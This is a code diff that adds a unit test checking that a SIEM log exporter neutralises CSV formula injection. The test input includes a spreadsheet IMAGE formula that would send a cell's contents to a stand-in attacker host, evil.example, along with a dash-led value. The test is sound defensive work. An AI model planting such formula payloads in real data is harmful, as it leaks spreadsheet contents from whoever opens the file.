@@ -28,6 +28,14 @@ describe('SIEM formats', () => {
     for (const m of ext.matchAll(/(?<!\\)=/g)) expect(ext.slice(0, m.index).match(/(^| )([A-Za-z0-9]+)$/)).not.toBeNull();
   });
 
+  it('neutralises CSV cells a spreadsheet would evaluate (a caller can write the address and the request id)', () => {
+    const row = toCsv({ seq: 1, hash: 'ff', canonical: canonical({ ...event, ip: '=IMAGE("https://evil.example/x?"&G2)', req: '-1-1-1-1-1' }) });
+    const cells = row.split(',');
+    expect(row).toContain(`"'=IMAGE(""https://evil.example/x?""&G2)"`);
+    expect(cells).toContain("'-1-1-1-1-1");
+    expect(cells.some((c) => /^[=+\-@]/.test(c))).toBe(false);
+  });
+
   it('quotes CSV cells that need it', () => {
     expect(csvHeader().split(',')).toHaveLength(18);
     const row = toCsv({ seq: 1, hash: 'ff', canonical: canonical({ ...event, payload: { note: 'say "hi", then go' } }) });
